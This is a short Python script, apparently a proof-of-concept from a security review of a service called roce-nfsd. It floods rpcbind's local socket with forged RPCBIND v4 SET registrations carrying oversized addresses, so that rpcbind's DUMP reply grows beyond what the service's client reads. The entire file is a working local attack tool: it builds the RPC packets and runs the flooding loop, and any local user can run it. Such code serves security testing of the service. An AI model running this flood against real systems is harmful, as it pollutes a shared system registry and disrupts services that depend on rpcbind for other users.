#!/usr/bin/python3
"""Attacker review 19, 2: RPCBIND v4 SETs of COUNT entries of one program (versions 1..COUNT)
over rpcbind's local socket, each with a long universal address, so that rpcbind's DUMP grows
past what roce-nfsd's RpcbindClient reads (64 KiB). Any local uid may do it.

  rpcbind_flood.py PROG COUNT [SOCKET]

Prints how many SETs rpcbind accepted.
"""
import socket
import struct
import sys


def xdr_string(s):
    b = s.encode()
    return struct.pack(">I", len(b)) + b + b"\0" * ((4 - len(b) % 4) % 4)


def call(path, proc, args):
    body = struct.pack(">IIIIII", 0x7e58, 0, 2, 100000, 4, proc) + struct.pack(">IIII", 0, 0, 0, 0)
    body += args
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.settimeout(5)
    s.connect(path)
    s.sendall(struct.pack(">I", 0x80000000 | len(body)) + body)
    data = b""
    while len(data) < 4 or len(data) < 4 + (struct.unpack(">I", data[:4])[0] & 0x7FFFFFFF):
        chunk = s.recv(65536)
        if not chunk:
            break
        data += chunk
    s.close()
    return data


def main():
    prog, count = int(sys.argv[1]), int(sys.argv[2])
    path = sys.argv[3] if len(sys.argv) > 3 else "/run/rpcbind.sock"
    ok = 0
    addr = "0.0.0.0.169.2" + "x" * 240
    for v in range(1, count + 1):
        d = call(path, 1, struct.pack(">II", prog, v) + xdr_string("tcp") + xdr_string(addr) +
                 xdr_string("x"))
        if len(d) >= 32 and struct.unpack(">I", d[28:32])[0]:
            ok += 1
    print(ok)
    return 0


if __name__ == "__main__":
    sys.exit(main())
